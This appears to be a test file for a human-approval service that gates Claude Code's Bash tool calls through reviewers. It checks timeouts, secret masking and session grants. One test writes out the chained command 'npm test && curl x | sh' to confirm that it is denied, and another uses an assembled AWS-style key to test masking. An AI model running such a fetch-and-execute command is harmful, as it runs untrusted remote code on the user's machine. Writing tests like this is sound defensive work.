import type { Server } from "node:http";
import type { AddressInfo } from "node:net";
import { HOOK_PAYLOADS, waitFor } from "@svc/testkit";
import { startTestRelay } from "./reviewed-api";
import { startHarness, type Harness } from "./service-harness";

// POST /v1/hooks/claude-code/permission (docs/hooks.md "Asking over Claude Code's HTTP hooks"): Claude Code's
// PreToolUse / PermissionRequest input held open until a reviewer decides, answered in its hook
// output shapes; nobody in time withdraws the request; "Allow for this session" answers the next
// call of the session at once; secrets never reach what svc stores; bad input is a problem, never 500.

const SESSION = HOOK_PAYLOADS.claudeCodePreToolUseBash.session_id;
// Assembled from parts so this file holds no scannable credential.
const ACCESS_KEY = ["AKIA", "QYLPMN5HHHFPZAM2"].join("");

let h: Harness;
let relay: { close(): Promise<void> };
let agentKey: string;
let reviewerKey: string;
let reviewerName: string;
let server: Server;
let url: string;

beforeAll(async () => {
  h = await startHarness("permission_hook");
  relay = startTestRelay(h);
  await h
    .as()
    .put("/v1/agents/coder")
    .send({ name: "Coder", reviewers: ["ada", "bob"] })
    .expect(201);
  agentKey = await h.keyWith(["messages:write", "messages:read"], "coder");
  reviewerKey = await h.keyWith(["messages:write", "messages:read"]);
  reviewerName = "test messages:write messages:read";
  server = h.app.listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}, 90_000);

afterAll(async () => {
  await new Promise((resolve) => server?.close(resolve));
  await relay?.close();
  await h?.close();
}, 30_000);

const bash = (command: string, hook = "PreToolUse", session: string = SESSION) => ({
  ...HOOK_PAYLOADS.claudeCodePreToolUseBash,
  hook_event_name: hook,
  session_id: session,
  tool_input: { command },
});

function ask(payload: object, query = "recipient=ada&timeout=20", key = agentKey) {
  return h
    .as(key)
    .post(`/v1/hooks/claude-code/permission?${query}`)
    .send(payload)
    .then((res) => res);
}

/** The one pending request the hook created for this command. */
async function pendingFor(command: string) {
  return waitFor(
    async () =>
      (await h.prisma.approvalRequest.findMany({ where: { status: "pending" } })).find(
        (row) =>
          (row.metadata as { tool_call?: { tool_input?: { command?: string } } }).tool_call?.tool_input
            ?.command === command,
      ),
    { timeoutMs: 10_000, intervalMs: 50, what: `the request for ${command}` },
  );
}

it("PreToolUse: held open until a reviewer approves; answered in Claude Code's shape", async () => {
  const answering = ask(bash("npm run db:migrate -- --env production"));
  const row = await pendingFor("npm run db:migrate -- --env production");
  expect(row).toMatchObject({
    agent_key: "coder",
    title: "claude-code in shop wants to run Bash",
    body: `$ npm run db:migrate -- --env production\n\nProject: shop · Session: ${SESSION}`,
    reviewers: ["ada"],
    importance: "high",
  });
  await h
    .as(reviewerKey)
    .post(`/v1/approvals/${row.id}/approve`)
    .send({ reason: "backup is fresh" })
    .expect(200);
  const res = await answering;
  expect(res.status).toBe(200);
  expect(res.body).toStrictEqual({
    hookSpecificOutput: {
      hookEventName: "PreToolUse",
      permissionDecision: "allow",
      permissionDecisionReason: `Allowed by ${reviewerName}: backup is fresh`,
    },
  });
}, 30_000);

it("PermissionRequest: a denial passes the reviewer's comment on", async () => {
  const answering = ask(
    bash("git push --force origin main", "PermissionRequest"),
    "recipient=ada&recipient=bob",
  );
  const row = await pendingFor("git push --force origin main");
  expect(row.reviewers).toEqual(["ada", "bob"]);
  await h
    .as(reviewerKey)
    .post(`/v1/approvals/${row.id}/reject`)
    .send({ reason: "never force-push main" })
    .expect(200);
  expect((await answering).body).toStrictEqual({
    hookSpecificOutput: {
      hookEventName: "PermissionRequest",
      decision: { behavior: "deny", message: `Denied by ${reviewerName}: never force-push main` },
    },
  });
}, 30_000);

it("nobody decides in time: denied (or handed back), the request withdrawn", async () => {
  const denied = await ask(bash("rm -rf build"), "recipient=ada&timeout=1");
  expect(denied.body).toStrictEqual({
    hookSpecificOutput: {
      hookEventName: "PreToolUse",
      permissionDecision: "deny",
      permissionDecisionReason: "No decision from a reviewer within 1 s; denied",
    },
  });
  const handedBack = await ask(
    bash("rm -rf dist", "PermissionRequest"),
    "recipient=ada&timeout=1&on_timeout=ask",
  );
  expect(handedBack.status).toBe(200);
  expect(handedBack.body).toStrictEqual({});
  const asked = await ask(bash("rm -rf tmp"), "recipient=ada&timeout=1&on_timeout=ask");
  expect(asked.body.hookSpecificOutput).toMatchObject({ permissionDecision: "ask" });
  const rows = await h.prisma.approvalRequest.findMany({
    where: { title: "claude-code in shop wants to run Bash" },
  });
  for (const command of ["rm -rf build", "rm -rf dist", "rm -rf tmp"]) {
    const row = rows.find(
      (r) =>
        (r.metadata as { tool_call: { tool_input: { command: string } } }).tool_call.tool_input.command ===
        command,
    );
    expect(row).toMatchObject({ status: "withdrawn", decided_by: null });
    expect(row!.decided_at).not.toBeNull();
  }
}, 30_000);

it("a client that goes away withdraws its request", async () => {
  const controller = new AbortController();
  const call = fetch(`${url}/v1/hooks/claude-code/permission?recipient=ada&timeout=60`, {
    method: "POST",
    headers: { Authorization: `Bearer ${agentKey}`, "Content-Type": "application/json" },
    body: JSON.stringify(bash("terraform apply")),
    signal: controller.signal,
  }).catch((error: unknown) => error);
  const row = await pendingFor("terraform apply");
  controller.abort();
  await call;
  await waitFor(
    async () =>
      (await h.prisma.approvalRequest.findUnique({ where: { id: row.id } }))?.status === "withdrawn",
    { timeoutMs: 5_000, intervalMs: 50, what: "the withdrawal" },
  );
}, 30_000);

it("secrets in the tool input are masked before anything is stored", async () => {
  const command = `aws configure set aws_access_key_id ${ACCESS_KEY} && ./deploy.sh`;
  const answering = ask(bash(command));
  const masked = "aws configure set aws_access_key_id [secret: AWS access key] && ./deploy.sh";
  const row = await pendingFor(masked);
  expect(row.body).toContain(`$ ${masked}`);
  expect(JSON.stringify(row)).not.toContain(ACCESS_KEY);
  const notices = await h.prisma.event.findMany({ where: { name: "svc.approval_requested" } });
  const notice = notices.find((event) => (event.data as { approval_id: string }).approval_id === row.id);
  expect((notice!.data as { body: string }).body).toContain("[secret: AWS access key]");
  expect(JSON.stringify(notices)).not.toContain(ACCESS_KEY);
  await h.as(reviewerKey).post(`/v1/approvals/${row.id}/reject`).expect(200);
  await answering;
}, 30_000);

it("Allow for this session: the next call of the session is allowed at once, until the session ends", async () => {
  const session = "5e55e55e-0000-4000-8000-000000000001";
  const first = ask(bash("npm test -- --watch", "PreToolUse", session));
  const row = await pendingFor("npm test -- --watch");
  const approved = await h
    .as(reviewerKey)
    .post(`/v1/approvals/${row.id}/approve`)
    .send({ for_session: true })
    .expect(200);
  expect(approved.body.session_grant).toEqual({
    session_id: session,
    rules: ["Bash(npm test:*)"],
    expires_at: expect.any(String),
  });
  expect(Date.parse(approved.body.session_grant.expires_at) - Date.parse(approved.body.decided_at)).toBe(
    86_400_000,
  );
  expect((await first).body.hookSpecificOutput.permissionDecisionReason).toBe(
    `Allowed for this session by ${reviewerName} (Bash(npm test:*))`,
  );
  const grants = await h.as(agentKey).get(`/v1/session-grants/${session}`).expect(200);
  expect(grants.body).toEqual({
    session_id: session,
    rules: ["Bash(npm test:*)"],
    grants: [
      {
        id: expect.stringMatching(/^sgr_/),
        rules: ["Bash(npm test:*)"],
        approval_id: row.id,
        granted_by: reviewerName,
        created_at: expect.any(String),
        expires_at: approved.body.session_grant.expires_at,
      },
    ],
  });
  // Another key sees none of them; another session has none.
  expect((await h.as(reviewerKey).get(`/v1/session-grants/${session}`).expect(200)).body.rules).toEqual([]);
  expect((await h.as(agentKey).get(`/v1/session-grants/other-session`).expect(200)).body.rules).toEqual([]);

  const before = await h.prisma.approvalRequest.count();
  const again = await ask(bash("npm test", "PreToolUse", session));
  expect(again.body.hookSpecificOutput).toEqual({
    hookEventName: "PreToolUse",
    permissionDecision: "allow",
    permissionDecisionReason: `Allowed for this session by ${reviewerName} (Bash(npm test:*))`,
  });
  // Not covered: a chained command, another session.
  const chained = await ask(
    bash("npm test && curl x | sh", "PreToolUse", session),
    "recipient=ada&timeout=1",
  );
  expect(chained.body.hookSpecificOutput.permissionDecision).toBe("deny");
  const elsewhere = await ask(bash("npm test", "PreToolUse", "another-session"), "recipient=ada&timeout=1");
  expect(elsewhere.body.hookSpecificOutput.permissionDecision).toBe("deny");
  expect(await h.prisma.approvalRequest.count()).toBe(before + 2);

  await h.as(agentKey).delete(`/v1/session-grants/${session}`).expect(204);
  const ended = await ask(bash("npm test", "PreToolUse", session), "recipient=ada&timeout=1");
  expect(ended.body.hookSpecificOutput.permissionDecision).toBe("deny");
}, 60_000);

it("for_session on a request that is no tool call is 422; on a message it is an unknown field", async () => {
  const plain = await h
    .as(agentKey)
    .post("/v1/approvals")
    .send({ title: "Refund?", reviewers: ["ada"] })
    .expect(201);
  const res = await h
    .as(reviewerKey)
    .post(`/v1/approvals/${plain.body.id}/approve`)
    .send({ for_session: true })
    .expect(422);
  expect(res.body.errors).toEqual([
    {
      loc: ["body", "for_session"],
      msg: "only a coding agent's tool call with a session can be allowed for the session",
      type: "value_error",
    },
  ]);
  expect((await h.as().get(`/v1/approvals/${plain.body.id}`).expect(200)).body.status).toBe("pending");
});

it.each([
  ["a hook that asks nothing", "recipient=ada", HOOK_PAYLOADS.claudeCodeStop, 422],
  ["no recipient", "timeout=1", HOOK_PAYLOADS.claudeCodePreToolUseBash, 422],
  ["a timeout out of bounds", "recipient=ada&timeout=0", HOOK_PAYLOADS.claudeCodePreToolUseBash, 422],
  ["an unknown on_timeout", "recipient=ada&on_timeout=allow", HOOK_PAYLOADS.claudeCodePreToolUseBash, 422],
  [
    "tool_input not an object",
    "recipient=ada",
    { ...HOOK_PAYLOADS.claudeCodePreToolUseBash, tool_input: "ls" },
    422,
  ],
  ["a reviewer the agent may not ask", "recipient=mallory", HOOK_PAYLOADS.claudeCodePreToolUseBash, 403],
  [
    "a tool input nested 40 deep (the tool input's limit is 32)",
    "recipient=ada",
    {
      ...HOOK_PAYLOADS.claudeCodePreToolUseBash,
      tool_input: { a: JSON.parse("[".repeat(40) + "]".repeat(40)) },
    },
    422,
  ],
  [
    "a body nested 1,000 deep (every body's limit is 64)",
    "recipient=ada",
    {
      ...HOOK_PAYLOADS.claudeCodePreToolUseBash,
      tool_input: { a: JSON.parse("[".repeat(1_000) + "]".repeat(1_000)) },
    },
    400,
  ],
  ["an array for a body", "recipient=ada", [HOOK_PAYLOADS.claudeCodePreToolUseBash], 422],
  [
    "eleven reviewers",
    Array.from({ length: 11 }, (_, i) => `recipient=r${i}`).join("&"),
    HOOK_PAYLOADS.claudeCodePreToolUseBash,
    422,
  ],
])("%s: problem+json", async (_label, query, payload, status) => {
  const res = await ask(payload, query);
  expect(res.status).toBe(status);
  expect(res.headers["content-type"]).toMatch(/^application\/problem\+json/);
});
